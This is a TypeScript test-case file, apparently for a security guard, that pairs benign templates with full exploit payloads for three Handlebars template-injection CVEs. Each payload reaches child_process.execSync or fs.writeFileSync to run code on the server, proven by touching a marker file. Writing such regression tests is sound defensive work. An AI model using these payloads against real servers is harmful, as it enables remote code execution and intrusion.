import { postJson, type KnownCase } from '../case.ts';

const benign =
  (path: string): KnownCase['benign'] =>
  () => [
    postJson(path, { template: 'Dear customer, your order is on its way.' }),
    postJson(path, { template: 'Sale: 50% off (today) = cheap; "see constructor.pdf"' }),
    postJson(path, { template: 'one [two] #three /four/ > five', data: { name: 'Ann' } }),
  ];

export default [
  {
    app: 'handlebars',
    package: 'handlebars',
    id: 'CVE-2019-19919',
    guard: 'template-injection',
    title: "a user's template reaches Function through constructors",
    attack(places) {
      const file = places.made();
      return {
        requests: [
          postJson('/handlebars/handlebars', {
            template:
              `{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}` +
              `{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}` +
              `{{this.push "return process.mainModule.require('child_process').execSync('touch ${file}');"}}{{this.pop}}` +
              `{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}`,
          }),
        ],
        effect: { kind: 'file', path: file },
      };
    },
    benign: benign('/handlebars/handlebars'),
  },
  {
    app: 'handlebars',
    package: 'handlebars-4.7.6',
    id: 'CVE-2021-23369',
    guard: 'template-injection',
    title: 'compiled strictly, a template from outside names code in a lookup',
    attack(places) {
      const file = places.made();
      const code = `process.mainModule.require('child_process').execSync('touch ${file}')`;
      return {
        requests: [
          postJson('/handlebars/handlebars-4.7.6', {
            strict: true,
            template: `{{#with (__lookupGetter__ "__proto__")}}{{#with (./constructor.getOwnPropertyDescriptor . "valueOf")}}{{#with ../constructor.prototype}}{{../../constructor.defineProperty . "hasOwnProperty" ..}}{{/with}}{{/with}}{{/with}}{{#with "constructor"}}{{#with split}}{{pop (push "${code}")}}{{#with .}}{{#with (concat (lookup join (slice 0 1)))}}{{#each (slice 2 3)}}{{#with (apply 0 ../..)}}{{.}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}`,
          }),
        ],
        effect: { kind: 'file', path: file },
      };
    },
    benign: benign('/handlebars/handlebars-4.7.6'),
  },
  {
    app: 'handlebars',
    package: 'handlebars-4.7.8',
    id: 'CVE-2026-33937',
    guard: 'template-injection',
    title: 'in place of a template comes a syntax tree, whose number is code',
    attack(places) {
      const file = places.made();
      const code = `process.getBuiltinModule('fs').writeFileSync('${file}','')`;
      const nameOf = (original: string, ...parts: string[]) => ({
        type: 'PathExpression',
        data: false,
        depth: 0,
        parts,
        original,
      });
      const statement = {
        type: 'MustacheStatement',
        escaped: true,
        strip: { open: false, close: false },
        loc: null,
        path: nameOf('lookup', 'lookup'),
        params: [
          nameOf('this'),
          { type: 'NumberLiteral', value: `{},{})) + (${code}) + container.escapeExpression((0`, original: 1 },
        ],
      };
      const template = { type: 'Program', body: [statement], blockParams: [], strip: {} };
      return {
        requests: [postJson('/handlebars/handlebars-4.7.8', { template })],
        effect: { kind: 'file', path: file },
      };
    },
    benign: benign('/handlebars/handlebars-4.7.8'),
  },
] satisfies KnownCase[];
